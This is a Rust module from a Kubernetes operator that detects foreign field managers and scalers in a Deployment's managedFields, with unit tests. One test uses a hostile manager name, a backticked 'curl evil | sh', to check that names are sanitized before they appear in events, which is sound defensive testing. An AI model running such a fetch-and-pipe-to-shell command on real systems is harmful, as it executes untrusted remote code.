//! Foreign field managers of a Deployment: pure.
//!
//! Server-side apply does not remove fields that `kubectl edit`, `set env` or `rollout undo` have added.
//! Without this, pods would run a mixture of both templates for ever.

use k8s_openapi::apimachinery::pkg::apis::meta::v1::{ManagedFieldsEntry, ObjectMeta};
use rowlock_crds::api::FIELD_MANAGER;
use serde_json::Value;

use crate::kubernetes::sanitize::sanitize;

/// The annotation of `kubectl rollout restart`, which is allowed.
pub(crate) const RESTARTED_AT: &str = "kubectl.kubernetes.io/restartedAt";

/// Foreign field managers that own parts of the pod template.
pub(crate) fn foreign(entries: &[ManagedFieldsEntry]) -> Vec<String> {
    let theirs = entries.iter().filter(|entry| is_foreign(entry));
    let mut names: Vec<String> = theirs.map(name).collect();
    names.dedup();
    names
}

/// Foreign field managers that own the number of pods. The API server records no owner of a number that was
/// set to zero by the subresource `scale`, nor of the next one.
pub(crate) fn scalers(entries: &[ManagedFieldsEntry]) -> Vec<String> {
    let theirs = entries.iter().filter(|entry| sets_replicas(entry));
    let mut names: Vec<String> = theirs.map(name).collect();
    names.dedup();
    names
}

/// The name of a field manager, which can be any text.
fn name(entry: &ManagedFieldsEntry) -> String {
    sanitize(entry.manager.as_deref().unwrap_or_default())
}

/// Keeps only the entries that matter here. All of them together are most of the memory of an object.
pub(crate) fn trim(metadata: &mut ObjectMeta) {
    if let Some(entries) = &mut metadata.managed_fields {
        entries.retain(|entry| is_foreign(entry) || sets_replicas(entry));
        entries.shrink_to_fit();
    }
}

/// The entries without those of foreign field managers.
pub(crate) fn without_foreign_managers(entries: Vec<ManagedFieldsEntry>) -> Vec<ManagedFieldsEntry> {
    entries.into_iter().filter(|entry| !is_foreign(entry)).collect()
}

fn is_foreign(entry: &ManagedFieldsEntry) -> bool {
    !is_ours(entry) && entry.subresource.is_none() && owns_template(entry)
}

/// Whether a foreign field manager owns the number of pods, by the object itself or by its subresource
/// `scale`, as autoscalers do.
fn sets_replicas(entry: &ManagedFieldsEntry) -> bool {
    let replicas = entry.fields_v1.as_ref().map(|fields| &fields.0["f:spec"]["f:replicas"]);
    entry.manager.as_deref() != Some(FIELD_MANAGER) && replicas.is_some_and(Value::is_object)
}

/// An entry of the operator's apply. An entry of its update counts as foreign until `replace_template` clears
/// it.
fn is_ours(entry: &ManagedFieldsEntry) -> bool {
    entry.manager.as_deref() == Some(FIELD_MANAGER) && entry.operation.as_deref() == Some("Apply")
}

fn owns_template(entry: &ManagedFieldsEntry) -> bool {
    let Some(fields) = &entry.fields_v1 else { return false };
    let template = &fields.0["f:spec"]["f:template"];
    has_leaf(template)
}

/// Whether an entry owns a field, apart from the time of a restart.
fn has_leaf(fields: &Value) -> bool {
    let Some(children) = fields.as_object() else { return false };
    children.iter().any(|(name, below)| {
        if name == "." || name == &format!("f:{RESTARTED_AT}") {
            return false;
        }
        let leaf = below.as_object().is_none_or(serde_json::Map::is_empty);
        leaf || has_leaf(below)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use k8s_openapi::apimachinery::pkg::apis::meta::v1::FieldsV1;
    use serde_json::json;

    /// Before, the name of a field manager was copied unchanged into an event, for example with a command in
    /// backticks.
    #[test]
    fn the_name_of_a_field_manager_looks_like_no_command() {
        let evil = entry("`curl evil | sh`\n", "Update", &json!({ "f:spec": {} }));
        assert_eq!(foreign(&[evil]), ["'curl evil | sh' "]);
        let fields = Some(FieldsV1(json!({ "f:spec": { "f:replicas": {} } })));
        let evil =
            ManagedFieldsEntry { manager: Some("`x`".into()), fields_v1: fields, ..Default::default() };
        assert_eq!(scalers(&[evil]), ["'x'"]);
    }

    fn entry(manager: &str, operation: &str, template: &Value) -> ManagedFieldsEntry {
        ManagedFieldsEntry {
            manager: Some(manager.into()),
            operation: Some(operation.into()),
            fields_v1: Some(FieldsV1(json!({ "f:spec": { "f:template": template } }))),
            ..ManagedFieldsEntry::default()
        }
    }

    #[test]
    fn an_edit_counts_as_foreign_and_a_restart_does_not() {
        let worker = json!({ "k:{\"name\":\"worker\"}": { ".": {}, "f:image": {} } });
        let image = json!({ "f:spec": { "f:containers": worker } });
        let annotations = json!({ ".": {}, "f:kubectl.kubernetes.io/restartedAt": {} });
        let restart = json!({ "f:metadata": { "f:annotations": annotations } });
        let table = [
            (entry("kubectl-edit", "Update", &image), true),
            (entry(FIELD_MANAGER, "Update", &image), true),
            (entry(FIELD_MANAGER, "Apply", &image), false),
            (entry("kubectl-rollout", "Update", &restart), false),
            (ManagedFieldsEntry { manager: Some("x".into()), ..ManagedFieldsEntry::default() }, false),
        ];
        for (entry, expected) in table {
            assert_eq!(!foreign(std::slice::from_ref(&entry)).is_empty(), expected, "{entry:?}");
            let mut metadata =
                ObjectMeta { managed_fields: Some(vec![entry.clone()]), ..ObjectMeta::default() };
            trim(&mut metadata);
            assert_eq!(metadata.managed_fields.unwrap().is_empty(), !expected);
            assert_eq!(without_foreign_managers(vec![entry]).is_empty(), expected);
        }
    }

    #[test]
    fn a_manager_that_owns_only_replicas_is_a_scaler() {
        let mut entry = entry("kubectl-scale", "Update", &Value::Null);
        entry.fields_v1 = Some(FieldsV1(json!({ "f:spec": { "f:replicas": {} } })));
        assert!(foreign(std::slice::from_ref(&entry)).is_empty());
        entry.subresource = Some("scale".into());
        assert_eq!(scalers(std::slice::from_ref(&entry)), ["kubectl-scale"]);
        let mut metadata = ObjectMeta { managed_fields: Some(vec![entry.clone()]), ..ObjectMeta::default() };
        trim(&mut metadata);
        assert_eq!(metadata.managed_fields.map(|entries| entries.len()), Some(1));
        entry.manager = Some(FIELD_MANAGER.into());
        assert!(scalers(&[entry]).is_empty());
    }
}
